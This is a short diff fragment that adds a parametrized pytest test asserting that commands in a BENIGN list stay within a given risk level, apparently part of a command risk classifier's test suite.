+@pytest.mark.parametrize(("command", "highest"), BENIGN)
+def test_benign(command: str, highest: RiskLevel) -> None:
+    stays_within(command, highest)
